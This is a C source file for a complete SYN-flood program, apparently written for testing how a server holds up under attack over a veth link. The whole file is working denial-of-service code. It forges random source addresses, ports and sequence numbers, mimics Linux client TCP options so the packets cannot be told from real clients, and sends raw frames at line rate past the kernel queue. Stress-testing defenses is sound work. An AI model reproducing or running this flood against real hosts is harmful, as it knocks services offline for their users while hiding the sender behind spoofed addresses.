/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * A flood of SYNs: each from another address, port and sequence number, with the options that a Linux client sends, so that nothing about them tells
 * them from clients that mean it. Frames go straight to the interface's driver (AF_PACKET, no queueing discipline), many in a system call, as fast as the
 * other end of the link takes them: few are under way at a time (SOCKET_OCTETS), so that they do not overrun the 256 places of a veth pair.
 *
 *   syn_flood INTERFACE TO-MAC TO-ADDRESS PORT SECONDS
 *
 * SIGTERM ends it earlier. One line on standard output, as JSON. Exit status 0: SYNs were sent all the time.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define FRAMES  64 /* in a system call */
#define OPTIONS 20

#define SOCKET_OCTETS 16384 /* the kernel doubles it: 32 to 43 frames with what it adds to each */

struct __attribute__((packed, aligned(2))) frame {
	struct ether_header ether;
	struct iphdr ip;
	struct tcphdr tcp;
	uint8_t options[OPTIONS];
};

struct flood {
	int socket;
	struct frame frames[FRAMES];
	struct iovec parts[FRAMES];
	struct mmsghdr messages[FRAMES];
	uint32_t ip_sum, tcp_sum; /* of what is the same in all frames */
	uint64_t random, sent, full;
};

static volatile sig_atomic_t flood_ends;

static void flood_on_signal(int number)
{
	(void)number;
	flood_ends = 1;
}

static double flood_now(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

static uint64_t flood_random(struct flood *f)
{
	f->random ^= f->random << 13;
	f->random ^= f->random >> 7;
	f->random ^= f->random << 17;
	return f->random;
}

/* Unicast, and not of the networks that a test has its clients in. */
static uint32_t flood_source(struct flood *f)
{
	for (;;) {
		uint32_t address = (uint32_t)(flood_random(f) >> 16), net = address >> 24;

		if (net != 0 && net != 10 && net != 127 && net < 224)
			return htonl(address);
	}
}

/* ---- frames ------------------------------------------------------------------------------------------------------------------ */
static uint32_t sum_words(uint32_t sum, const void *p, size_t octets)
{
	uint16_t word;

	for (size_t i = 0; i < octets; i += 2) {
		memcpy(&word, (const uint8_t *)p + i, 2);
		sum += word;
	}
	return sum;
}

static uint16_t sum_fold(uint32_t sum)
{
	sum = (sum & 0xffff) + (sum >> 16);
	sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static void frame_init(
        struct flood *f, struct frame *frame, const uint8_t to[6], const uint8_t from[6], uint32_t address, uint16_t port)
{
	/* MSS 1460, SACK permitted, time stamps, window scale 7 */
	static const uint8_t options[OPTIONS] = {2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7};
	const uint16_t pseudo[2] = {htons(IPPROTO_TCP), htons(sizeof(struct tcphdr) + OPTIONS)};

	memset(frame, 0, sizeof(*frame));
	memcpy(frame->ether.ether_dhost, to, 6);
	memcpy(frame->ether.ether_shost, from, 6);
	frame->ether.ether_type = htons(ETHERTYPE_IP);
	frame->ip = (struct iphdr){.version = 4,
	        .ihl = 5,
	        .tot_len = htons(sizeof(*frame) - sizeof(frame->ether)),
	        .ttl = 64,
	        .protocol = IPPROTO_TCP,
	        .daddr = address};
	frame->tcp = (struct tcphdr){.dest = htons(port), .doff = 10, .syn = 1, .window = htons(64240)};
	memcpy(frame->options, options, OPTIONS);
	f->ip_sum = sum_words(0, &frame->ip, sizeof(frame->ip));
	f->tcp_sum = sum_words(0, &frame->tcp, sizeof(frame->tcp) + OPTIONS);
	f->tcp_sum = sum_words(sum_words(f->tcp_sum, &address, 4), pseudo, 4);
}

static void frame_renew(struct flood *f, struct frame *frame)
{
	uint32_t source = flood_source(f), seq = (uint32_t)flood_random(f);
	uint16_t port = (uint16_t)(1024 + (uint32_t)(flood_random(f) >> 20) % 64000);

	frame->ip.saddr = source;
	frame->ip.check = sum_fold(sum_words(f->ip_sum, &source, 4));
	frame->tcp.source = port;
	frame->tcp.seq = seq;
	frame->tcp.check = sum_fold(sum_words(sum_words(f->tcp_sum + port, &source, 4), &seq, 4));
}

/* ---- sending ----------------------------------------------------------------------------------------------------------------- */
/* A queue that is full takes the rest later; false for what is no matter of time. */
static bool flood_send(struct flood *f)
{
	int done = 0;

	for (int i = 0; i < FRAMES; i++)
		frame_renew(f, &f->frames[i]);
	while (done < FRAMES) {
		int n = sendmmsg(f->socket, f->messages + done, (unsigned int)(FRAMES - done), 0);

		if (n > 0) {
			done += n;
			f->sent += (uint64_t)n;
		} else if (errno == ENOBUFS || errno == EAGAIN || errno == EINTR) {
			f->full++;
		} else {
			return false;
		}
	}
	return true;
}

static int flood_open(struct flood *f, char **argv)
{
	struct sockaddr_ll where = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argv[1])};
	uint32_t address;
	uint8_t to[6];
	struct ifreq own = {0};
	const int yes = 1, octets = SOCKET_OCTETS;

	snprintf(own.ifr_name, sizeof(own.ifr_name), "%s", argv[1]);
	if (sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &to[0], &to[1], &to[2], &to[3], &to[4], &to[5]) != 6 ||
	        inet_pton(AF_INET, argv[3], &address) != 1)
		return -EINVAL;
	f->socket = socket(AF_PACKET, SOCK_RAW, 0);
	if (f->socket < 0 || bind(f->socket, (struct sockaddr *)&where, sizeof(where)) != 0 ||
	        setsockopt(f->socket, SOL_PACKET, PACKET_QDISC_BYPASS, &yes, sizeof(yes)) != 0 ||
	        setsockopt(f->socket, SOL_SOCKET, SO_SNDBUF, &octets, sizeof(octets)) != 0 ||
	        ioctl(f->socket, SIOCGIFHWADDR, &own) != 0)
		return -errno;
	for (int i = 0; i < FRAMES; i++) {
		frame_init(f, &f->frames[i], to, (const uint8_t *)own.ifr_hwaddr.sa_data, address, (uint16_t)atoi(argv[4]));
		f->parts[i] = (struct iovec){&f->frames[i], sizeof(f->frames[i])};
		f->messages[i].msg_hdr = (struct msghdr){.msg_iov = &f->parts[i], .msg_iovlen = 1};
	}
	return 0;
}

int main(int argc, char **argv)
{
	static struct flood f;
	double begin = flood_now(), seconds = argc == 6 ? atof(argv[5]) : 0;
	bool well = true;
	int rc;

	if (seconds <= 0) {
		fprintf(stderr, "usage: syn_flood INTERFACE TO-MAC TO-ADDRESS PORT SECONDS\n");
		return 2;
	}
	f.random = (uint64_t)getpid() << 32 | 1;
	rc = flood_open(&f, argv);
	if (rc < 0) {
		fprintf(stderr, "syn_flood: %s: %s\n", argv[1], strerror(-rc));
		return 2;
	}
	signal(SIGTERM, flood_on_signal);
	while (well && !flood_ends && flood_now() < begin + seconds)
		well = flood_send(&f);
	if (!well)
		perror("syn_flood: sendmmsg");
	printf("{\"sent\": %llu, \"a_second\": %.0f, \"full\": %llu}\n", (unsigned long long)f.sent,
	        (double)f.sent / (flood_now() - begin), (unsigned long long)f.full);
	return well ? 0 : 1;
}
